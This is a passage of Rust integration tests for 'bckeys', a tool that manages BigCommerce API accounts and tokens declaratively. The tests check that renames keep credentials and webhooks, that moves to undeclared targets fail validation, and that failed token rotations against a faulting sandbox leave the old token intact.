    assert_eq!(String::from_utf8(out.stdout).unwrap(), token, "the same token, under its new address");
    assert_eq!(tokens(&sandbox).len(), created, "no new credential");
    bckeys(&repo, &sandbox).args(["plan", "--detailed-exitcode"]).assert().code(0);
    bckeys(&repo, &sandbox).arg("drift").assert().code(0);
}

/// An account renamed in the control panel, declared with `moved:`, keeps its record, its
/// credential and its webhooks.
#[test]
fn a_declared_rename_moves_the_account_and_its_webhooks() {
    let (repo, sandbox) = setup();
    apply(&repo, &sandbox).code(0);
    let before = erp_token(&repo, &sandbox);
    let renamed = CONFIG.replace("      erp-sync:\n", "      erp-connector:\n")
        + "moved:\n  - from: store/production/erp-sync\n    to: store/production/erp-connector\n";
    repo.write_config(&renamed);
    bckeys(&repo, &sandbox)
        .args(["plan", "--refresh=false"])
        .assert()
        .success()
        .stdout(predicate::str::contains("-> store/production/erp-connector move"))
        .stdout(predicate::str::contains("renamed in the control panel"))
        .stdout(predicate::str::contains("-> store/production/erp-connector/webhook/order-created move"))
        .stdout(predicate::str::contains("guided:").not());
    apply(&repo, &sandbox).code(0);
    let out = bckeys(&repo, &sandbox)
        .args(["reveal", "store/production/erp-connector", "--field", "access_token"])
        .output()
        .unwrap();
    assert_eq!(String::from_utf8(out.stdout).unwrap(), before);
    let state = repo.read("bckeys.state.yaml");
    assert!(state.contains("name: erp-connector") && !state.contains("store/production/erp-sync"), "{state}");
    bckeys(&repo, &sandbox).args(["plan", "--detailed-exitcode"]).assert().code(0);

    // A move to something not declared is an error at its line.
    repo.write_config(
        &(CONFIG.to_owned() + "moved:\n  - from: store/production/erp-sync\n    to: store/production/nothing\n"),
    );
    bckeys(&repo, &sandbox)
        .arg("validate")
        .assert()
        .code(1)
        .stderr(predicate::str::contains("bckeys.yaml:38:9: `store/production/nothing` is not declared"));
}

#[test]
fn a_failed_token_replacement_keeps_the_old_token_recorded() {
    let (repo, sandbox) = setup();
    apply(&repo, &sandbox).code(0);
    let before = reveal_token(&repo, &sandbox, "server");
    repo.write_config(&CONFIG.replace("channel_ids: [1, 2]", "channel_ids: [1]"));
    // BigCommerce refuses every creation for a while.
    sandbox.fault(serde_json::json!({"store_hash": "abc123def4", "kind": "status", "status": 422, "count": 1000}));
    // Planned from the state: the fault would fail the refresh itself.
    bckeys(&repo, &sandbox)
        .args(["apply", "--auto-approve", "--sandbox-panel", "--refresh=false"])
        .assert()
        .code(1)
        .stdout(predicate::str::contains("failed: store/production/storefront-token/server"));
    // BigCommerce refused the creation, so nothing was created: no intent reports a token that
    // may exist.
    assert!(repo.state().intents.is_empty(), "{}", repo.read("bckeys.state.yaml"));
    sandbox.panel("DELETE", "/__sandbox/faults", serde_json::Value::Null);
    // The old token is still the recorded one, and still valid.
    assert_eq!(reveal_token(&repo, &sandbox, "server"), before);
    assert!(repo.state().retiring.is_empty());
    assert_eq!(tokens(&sandbox).iter().filter(|t| t["revoked"] == true).count(), 0);
    // The retry replaces it; the old one then stays valid until its expiry (the default overlap).
    apply(&repo, &sandbox)
        .code(0)
        .stdout(predicate::str::contains("store/production/storefront-token/server: the previous token stays valid"));
    assert_ne!(reveal_token(&repo, &sandbox, "server"), before);
}
